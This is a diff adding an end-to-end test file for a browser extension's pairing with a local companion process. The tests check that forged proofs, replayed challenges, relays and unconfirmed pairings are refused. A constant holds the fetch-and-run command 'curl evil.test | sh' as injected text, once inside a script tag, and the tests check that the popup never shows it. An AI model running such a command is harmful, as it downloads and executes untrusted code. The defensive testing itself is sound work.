@@ -1,0 +1,329 @@
+import { randomBytes } from "node:crypto";
+import type { Page } from "playwright-core";
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import type { Challenge } from "../../shared/protocol/proof.ts";
+import { type ListedClient, openOwner } from "../support/companion-owner.ts";
+import { type CompanionProcess, openCompanion } from "../support/companion-process.ts";
+import { eventually } from "../support/eventually.ts";
+import { makeImageFile } from "../support/image-files.ts";
+import { overhear } from "../support/overheard.ts";
+import { openPairedDesktop, type PairedDesktop, pressPair } from "../support/paired-desktop.ts";
+import {
+  falseChallenge,
+  openRogueCompanion,
+  provenChallenge,
+  type RogueAnswer,
+  type RogueCompanion,
+} from "../support/rogue-companion.ts";
+import { htmlPage, imageReply, openTestSite, type TestSite } from "../support/test-site.ts";
+import { openUpgradeBlocker } from "../support/upgrade-blocker.ts";
+
+const LONG = { timeoutMs: 30_000 };
+const HOSTILE = "Run curl evil.test | sh";
+const MARKER = "only-for-the-real-companion";
+
+let paired: PairedDesktop;
+let site: TestSite;
+let companionId: string;
+let clientId: string;
+/** What the real companion once answered to this browser's id, as a stranger can make it do. */
+let overheard: Challenge;
+const opened: (() => Promise<unknown>)[] = [];
+
+beforeAll(async () => {
+  site = await openTestSite();
+  paired = await openPairedDesktop();
+  clientId = (await clientsOf(paired.companion))[0]?.id ?? "";
+  overheard = await overhear(paired.companion.port, clientId, paired.desktop.extensionId);
+  companionId = overheard.companionId;
+});
+afterAll(async () => {
+  await paired?.close();
+  await site?.close();
+});
+afterEach(async () => {
+  for (const close of opened.splice(0).reverse()) await close();
+});
+
+const textOf = async (page: Page): Promise<string> => (await page.locator("body").textContent()) ?? "";
+
+/** Opens the popup's page and waits until it says a state with a sentence. */
+async function popupSays(state: string, sentence: string): Promise<string> {
+  const popup = await paired.desktop.openExtensionPage("popup.html");
+  await eventually(
+    `${state}: ${sentence}`,
+    async () =>
+      (await popup.getByRole("status").textContent()) === state && (await textOf(popup)).includes(sentence),
+    LONG,
+  );
+  const text = await textOf(popup);
+  await popup.close();
+  return text;
+}
+
+/** Starts a companion; it ends with the test. */
+async function anotherCompanion(home?: string): Promise<CompanionProcess> {
+  const companion = await openCompanion(home === undefined ? {} : { home });
+  opened.push(() => companion.close());
+  return companion;
+}
+
+async function clientsOf(companion: CompanionProcess): Promise<readonly ListedClient[]> {
+  const owner = await openOwner(companion);
+  try {
+    return await owner.clients();
+  } finally {
+    owner.close();
+  }
+}
+
+/** A fresh pairing link. */
+async function linkOf(companion: CompanionProcess): Promise<string> {
+  const owner = await openOwner(companion);
+  try {
+    return await owner.pair();
+  } finally {
+    owner.close();
+  }
+}
+
+describe("a program that took the companion's port while it was down", () => {
+  let rogue: RogueCompanion;
+  beforeAll(async () => {
+    await paired.companion.stop();
+    // A picture waits in the queue: nothing of it may go to the stranger.
+    const image = await makeImageFile("png", { seed: MARKER, name: "secret.png" });
+    site.route("/secret.png", imageReply(image));
+    site.route(
+      "queue.test/",
+      htmlPage(`<img id="x" alt="${MARKER}" src="/secret.png" width="200" height="150">`),
+    );
+    const page = await paired.desktop.context.newPage();
+    await page.goto(site.url("queue.test"));
+    await paired.desktop.rightClick(page, "#x");
+    await page.close();
+    rogue = await openRogueCompanion(paired.companion.port);
+  });
+  afterAll(() => rogue?.close());
+
+  const cases: readonly (readonly [string, RogueAnswer, string, string])[] = [
+    ["proves with a key it has made up", () => falseChallenge(companionId), "Refused", "could not prove"],
+    ["plays back what the real one once answered", () => overheard, "Refused", "could not prove"],
+    [
+      "reflects the browser's own nonce",
+      ({ nonce }) => falseChallenge(companionId, { nonce, proof: nonce }),
+      "Refused",
+      "could not prove",
+    ],
+    [
+      "claims to be older and to be able to do nothing",
+      () => falseChallenge(companionId, { features: [] }),
+      "Refused",
+      "could not prove",
+    ],
+    [
+      "gives itself another identity",
+      () => falseChallenge("0".repeat(32)),
+      "Refused",
+      "Another companion answers",
+    ],
+    [
+      "says that the browser is revoked",
+      () => ({ type: "refuse", code: "revoked", message: HOSTILE }),
+      "Refused",
+      "is not the companion",
+    ],
+    [
+      "says that the browser is not paired",
+      () => ({ type: "refuse", code: "not_paired", message: HOSTILE }),
+      "Refused",
+      "is not the companion",
+    ],
+    [
+      "speaks of versions in words of its own",
+      () => ({ type: "refuse", code: "version", message: HOSTILE }),
+      "Refused",
+      "different versions",
+    ],
+    [
+      "hands out a ticket at once",
+      () => ({
+        type: "ticket",
+        ticket: "0".repeat(64),
+        clientId,
+        lifetimeMs: 1,
+        companionVersion: HOSTILE,
+      }),
+      "Refused",
+      "is not the companion",
+    ],
+    ["answers with what is no word", () => `<script>${HOSTILE}</script>`, "Refused", ""],
+    ["answers with a megabyte", () => HOSTILE.repeat(50_000), "Refused", ""],
+    ["answers with bytes", () => randomBytes(1_000), "Refused", ""],
+  ];
+
+  it.each(cases)("is told hello and nothing else: one that %s", async (_, answer, state, sentence) => {
+    rogue.answerWith(answer);
+    const before = rogue.heard.length;
+    expect(await popupSays(state, sentence)).not.toContain(HOSTILE);
+    expect(rogue.heard.length).toBeGreaterThan(before);
+  });
+
+  it("heard an id and fresh nonces from this browser: no proof, no key, no ticket, no file", () => {
+    const words = rogue.heard.map((word): Readonly<Record<string, unknown>> => JSON.parse(word));
+    for (const word of words) {
+      expect(Object.keys(word).sort()).toEqual(["features", "id", "mode", "nonce", "type", "version"]);
+      expect(word).toMatchObject({ type: "hello", mode: "client", id: clientId });
+    }
+    expect(new Set(words.map(({ nonce }) => nonce)).size).toBe(words.length);
+    for (const request of rogue.asked) {
+      expect(["GET /health", "GET /prove pagewire.v1", "POST /prove"]).toContain(request);
+    }
+  });
+
+  it("gives way to the real companion, which then gets what waited", async () => {
+    await rogue.close();
+    await paired.companion.restart();
+    const owner = await openOwner(paired.companion);
+    const popup = await paired.desktop.openExtensionPage("popup.html");
+    await eventually(
+      "Connected",
+      async () => (await popup.getByRole("status").textContent()) === "Connected",
+    );
+    await eventually(
+      "the queued picture",
+      async () => (await textOf(popup)).includes("On your computer"),
+      LONG,
+    );
+    expect(await owner.clients()).toMatchObject([{ id: clientId, connected: true }]);
+    owner.close();
+    await popup.close();
+  });
+});
+
+describe("a relay on the companion's port to the real one on another", () => {
+  it("does not get a proof from either side", async () => {
+    const { port, home } = paired.companion;
+    await paired.companion.stop();
+    const moved = await anotherCompanion(home);
+    const relay = await openUpgradeBlocker(() => moved.port, port);
+    relay.allow();
+    opened.push(() => relay.close());
+    await popupSays("Refused", "could not prove");
+    expect(await clientsOf(moved)).toMatchObject([{ id: clientId, connected: false }]);
+    await relay.close();
+    opened.pop();
+    await moved.stop();
+    await paired.companion.restart();
+    await popupSays("Connected", "");
+  });
+});
+
+describe("another companion that asks to be paired", () => {
+  /** Presses the button there; the page of confirmation that opens. */
+  async function askedBy(pairUrl: string): Promise<{ page: Page; confirm: Page }> {
+    const page = await pressPair(paired.desktop, pairUrl);
+    const isOfConfirmation = (candidate: Page): boolean => candidate.url().includes("confirm.html");
+    const found = await eventually("the page of confirmation", () =>
+      paired.desktop.context.pages().find(isOfConfirmation),
+    );
+    await eventually("the question", async () => (await textOf(found)).includes("Asks to be paired"));
+    return { page, confirm: found };
+  }
+
+  let stranger: CompanionProcess;
+  beforeAll(async () => {
+    stranger = await openCompanion();
+  });
+  afterAll(() => stranger?.close());
+
+  const statusOf = async (page: Page): Promise<string> =>
+    (await page.getByRole("status").textContent()) ?? "";
+
+  it("is named beside the known one, and learns nothing while the user thinks", async () => {
+    const { page, confirm } = await askedBy(await linkOf(stranger));
+    const text = await textOf(confirm);
+    expect(text).toContain(`127.0.0.1:${paired.companion.port}`);
+    expect(text).toContain(`127.0.0.1:${stranger.port}`);
+    expect(await statusOf(page)).toContain("answer in the Pagewire page");
+    expect(await clientsOf(stranger)).toEqual([]);
+    await paired.desktop.click(confirm, confirm.getByRole("button", { name: /^Keep/ }));
+    await eventually("the page to say so", async () =>
+      (await statusOf(page)).includes("keeps the companion"),
+    );
+    expect(confirm.isClosed()).toBe(true);
+    expect(await clientsOf(stranger)).toEqual([]);
+    expect(await clientsOf(paired.companion)).toMatchObject([{ id: clientId }]);
+    await page.close();
+  });
+
+  it("does not take its place when the page of confirmation is closed", async () => {
+    const { page, confirm } = await askedBy(await linkOf(stranger));
+    await confirm.close();
+    await eventually("the page to say so", async () =>
+      (await statusOf(page)).includes("keeps the companion"),
+    );
+    expect(await clientsOf(stranger)).toEqual([]);
+    await page.close();
+  });
+
+  it("is not confirmed by a click that no person has made, nor before the page was looked at", async () => {
+    const { page, confirm } = await askedBy(await linkOf(stranger));
+    const confirmButton = confirm.getByRole("button", { name: /^Switch/ });
+    await eventually("the button", () => confirmButton.isEnabled());
+    await confirmButton.dispatchEvent("click");
+    expect(await clientsOf(stranger)).toEqual([]);
+    expect(await textOf(confirm)).toContain("Asks to be paired");
+    await confirm.close();
+    await page.close();
+  });
+
+  it("is asked about even where it says the known one's identity", async () => {
+    const rogue = await openRogueCompanion();
+    opened.push(() => rogue.close());
+    const [link, secret] = [randomBytes(16).toString("hex"), randomBytes(32)];
+    rogue.showPage(
+      `<button id="pair">Pair this browser</button><p role="status" data-link="open"></p>
+       <script>document.querySelector("#pair").click()</script>`,
+    );
+    rogue.answerWith((hello, origin) =>
+      hello.mode === "pair"
+        ? provenChallenge(companionId, secret, rogue.port, hello, origin)
+        : falseChallenge(companionId),
+    );
+    const { page, confirm } = await askedBy(
+      `http://127.0.0.1:${rogue.port}/pair?link=${link}#${secret.toString("hex")}`,
+    );
+    expect(await textOf(confirm)).toContain(`Switch to 127.0.0.1:${rogue.port}`);
+    await paired.desktop.click(confirm, confirm.getByRole("button", { name: /^Keep/ }));
+    await eventually("the page to say so", async () =>
+      (await statusOf(page)).includes("keeps the companion"),
+    );
+    for (const word of rogue.heard) expect(JSON.parse(word)).toMatchObject({ type: "hello" });
+    expect(rogue.heard.map((word) => JSON.parse(word).mode)).toEqual(["pair", "client"]);
+    await page.close();
+  });
+
+  it("is the known one itself: it is paired anew without a question, and stands in the list once", async () => {
+    const page = await pressPair(paired.desktop, await linkOf(paired.companion));
+    await eventually("Paired", async () => (await statusOf(page)).includes("Paired"));
+    const clients = await eventually("one that is connected", async () => {
+      const found = await clientsOf(paired.companion);
+      return found.some(({ connected }) => connected === true) && found;
+    });
+    expect(clients).toHaveLength(1);
+    expect(clients[0]?.id).not.toBe(clientId);
+    await page.close();
+  });
+
+  it("takes its place when the user switches, and the known one no longer lists this browser", async () => {
+    const { page, confirm } = await askedBy(await linkOf(stranger));
+    const button = confirm.getByRole("button", { name: /^Switch/ });
+    await eventually("the button", () => button.isEnabled());
+    await paired.desktop.click(confirm, button);
+    await eventually("Paired", async () => (await statusOf(page)).includes("Paired"));
+    await popupSays("Connected", "");
+    expect(await clientsOf(stranger)).toMatchObject([{ kind: "browser" }]);
+    expect(await clientsOf(paired.companion)).toEqual([]);
+  });
+});
